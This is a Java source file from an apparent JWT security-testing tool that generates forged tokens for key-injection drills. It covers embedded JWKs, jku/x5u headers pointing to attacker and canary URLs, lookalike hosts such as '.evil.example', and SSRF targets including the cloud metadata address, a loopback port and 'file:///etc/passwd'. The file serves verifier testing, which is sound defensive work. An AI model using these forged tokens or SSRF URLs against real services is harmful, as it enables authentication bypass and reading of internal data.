package dev.mintmark.drills.generate;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.mintmark.drills.DrillToken;
import dev.mintmark.jose.Base64Url;
import dev.mintmark.jose.Jwk;
import dev.mintmark.jose.Sha256;
import dev.mintmark.jose.json.JsonMembers;
import java.net.URI;
import java.util.List;
import java.util.Map;

/** Tokens that bring their own key, or say where it is. All are signed by the attacker with the kid of the issuer's key. */
final class NamedKeyDrills {
    private NamedKeyDrills() {}

    static Map<String, DrillGenerator> all() {
        return Map.of(
                "jwk-embedded", drill -> Outcome.of(attack(drill, drill.header("jwk", publicJwk(drill)))),
                "jwk-embedded-oct", NamedKeyDrills::embeddedSecret,
                "jku-attacker", drill -> drill.withCanary(url -> Outcome.of(attack(drill, drill.header("jku", url)))),
                "jku-lookalike", drill -> drill.withCanary(url -> lookalikes(drill, URI.create(url))),
                "jku-internal",
                        drill -> Outcome.of(Map.of(
                                        "metadata", "http://169.254.169.254/latest/meta-data/",
                                        "loopback", "http://127.0.0.1:22/jwks.json",
                                        "file", "file:///etc/passwd")
                                .entrySet()
                                .stream()
                                .sorted(Map.Entry.comparingByKey())
                                .map(url ->
                                        DrillToken.of(url.getKey(), attack(drill, drill.header("jku", url.getValue()))))
                                .toList()),
                "x5u-attacker", drill -> drill.withCanary(url -> Outcome.of(attack(drill, drill.header("x5u", url)))),
                "x5c-self-signed",
                        drill -> Outcome.of(attack(
                                drill,
                                drill.header().toBuilder()
                                        .put("x5c", List.of(drill.certificate()))
                                        .build())));
    }

    private static String attack(DrillContext drill, JsonMembers header) {
        return drill.signed(drill.attacker(), header, drill.claims());
    }

    private static ObjectNode publicJwk(DrillContext drill) {
        Jwk jwk = drill.attacker().jwk().withKeyId(drill.keys().base().id());
        return jwk.publicJson();
    }

    private static Outcome embeddedSecret(DrillContext drill) {
        byte[] secret = Sha256.of(drill.claims().bytes());
        ObjectNode jwk = JsonNodeFactory.instance.objectNode().put("kty", "oct").put("k", Base64Url.encode(secret));
        return Outcome.of(HmacDrills.hmac(drill, drill.header("jwk", jwk), secret));
    }

    /** URLs that start like the issuer and lead elsewhere; two of them lead to the canary. */
    private static Outcome lookalikes(DrillContext drill, URI canary) {
        String issuer = drill.spec().issuer().replaceFirst("/+$", "");
        String host = issuer.replaceFirst("^https?://", "").replaceFirst("/.*$", "");
        String scheme = issuer.startsWith("https:") ? "https://" : "http://";
        String userInfo = canary.getScheme() + "://" + host + '@' + canary.getRawAuthority() + canary.getRawPath();
        return Outcome.of(
                DrillToken.of("domain", attack(drill, drill.header("jku", scheme + host + ".evil.example/jwks.json"))),
                DrillToken.of("user info", attack(drill, drill.header("jku", userInfo))),
                DrillToken.of("path", attack(drill, drill.header("jku", issuer + "/.." + canary.getRawPath()))));
    }
}
